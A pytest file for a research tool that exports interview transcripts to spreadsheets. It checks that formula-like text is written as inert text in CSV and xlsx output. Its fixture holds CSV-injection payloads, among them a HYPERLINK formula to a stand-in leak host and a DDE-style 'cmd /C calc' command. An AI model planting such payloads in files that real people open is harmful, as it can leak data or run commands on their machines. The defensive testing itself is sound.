"""Transcripts and manifests come from other people. Text in them that starts like a formula
(``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3``, ``@SUM``) must reach every spreadsheet-bound
output as text (run tables, coder sheets, agreement tables) and come back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.slow

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TRANSCRIPT = (
    "Interviewer: Why did you leave?\n\n"
    'P1: =HYPERLINK("http://evil.example/?leak","pay") The salary was too low to cover the rent in Lahore. '
    "+cmd|' /C calc'!A0 and the rota was eighty hours every single week on the ward. "
    "-2+3 doctors covered a ward built for ten, with no gloves and no working ventilator.\n\n"
    "Interviewer: And your family?\n\n"
    "P1: @SUM(A1:A9) my mother still asks when I will come home, and I feel guilty every day.\n"
)
MANIFEST = "file,participant,country,gender,specialty\np1.txt,P1,=1+1,@SUM(1),cardio\x07logy\n"


def _numeric(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _live_cells(path: Path) -> list[str]:
    """Cells a spreadsheet program would run as a formula when it opens ``path``."""
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row if c.startswith(TRIGGERS) and not _numeric(c)]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory, cache_dir: Path) -> Path:
    import narratives

    corpus = tmp_path_factory.mktemp("hostile")
    (corpus / "p1.txt").write_text(TRANSCRIPT)
    (corpus / "manifest.csv").write_text(MANIFEST)
    out = tmp_path_factory.mktemp("hostile-run") / "run"
    config = narratives.load_config(None, [f"cache={cache_dir}", "align.threshold=0"])
    repo = Path(__file__).resolve().parents[2]
    narratives.run([corpus], repo / "configs/codebooks/physician-migration.yaml", manifest=corpus / "manifest.csv",
                   config=config, out=out)
    return out


def test_run_tables_hold_no_live_formula_and_read_back_exactly(hostile_run: Path) -> None:
    from narratives.reports.run_dir import load_run

    tables = sorted(hostile_run.glob("*.csv"))
    assert {p.name for p in tables} >= {"segments.csv", "quotes.csv", "theme_frequencies.csv"}
    assert {p.name: _live_cells(p) for p in tables} == {p.name: [] for p in tables}
    run = load_run(hostile_run)
    texts = run.segments["text"].tolist()
    assert any(t.startswith('=HYPERLINK("http://evil') for t in texts)
    assert any(t.startswith("@SUM(A1:A9)") for t in texts)
    for row in run.segments.itertuples(index=False):
        assert row.text == run.documents[row.doc_id].text[row.start:row.end]
    assert set(run.segments["country"]) == {"=1+1"}


def test_coder_sheets_and_agreement_tables_hold_no_live_formula(hostile_run: Path, tmp_path: Path) -> None:
    from narratives.codebook.coded import load_examples
    from narratives.coders.agreement_report import measure_agreement
    from narratives.coders.export import export_run
    from narratives.reports.run_dir import load_run

    run = load_run(hostile_run)
    sheet = export_run(hostile_run, "xlsx", tmp_path / "review.xlsx", units="assigned").files[0]
    wb = load_workbook(sheet)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    quotes = wb["Quotes"]
    head = [c.value for c in quotes[1]]
    shown = [quotes.cell(r, head.index("quote") + 1).value for r in range(2, quotes.max_row + 1)]
    assert set(shown) <= set(run.segments["text"]) and any(q.startswith("=HYPERLINK") for q in shown)
    assert quotes.cell(2, head.index("specialty") + 1).value == "cardio\ufffdlogy"  # xlsx cannot hold \x07

    amna, bilal = (export_run(hostile_run, "csv", tmp_path / "sheet.csv", units="assigned",
                              coders=["amna", "bilal"]).files)
    for path, decision in ((amna, "accept"), (bilal, "reject")):
        assert _live_cells(path) == []
        with path.open(newline="", encoding="utf-8-sig") as fh:
            rows = list(csv.DictReader(fh))
        for row in rows:
            row["decision"] = decision
        with path.open("w", newline="", encoding="utf-8-sig") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    report = measure_agreement([amna, bilal], run_dir=hostile_run, reps=50)
    written = report.write(tmp_path / "agreement")
    assert len(report.disagreements) > 0
    for name in ("disagreements.csv", "examples.csv"):
        assert _live_cells(written / name) == []
    learned = load_examples(written / "examples.csv", run.codebook)
    assert {e.text for e in learned} <= set(run.segments["text"])
    assert any(e.text.startswith("=HYPERLINK") for e in learned)
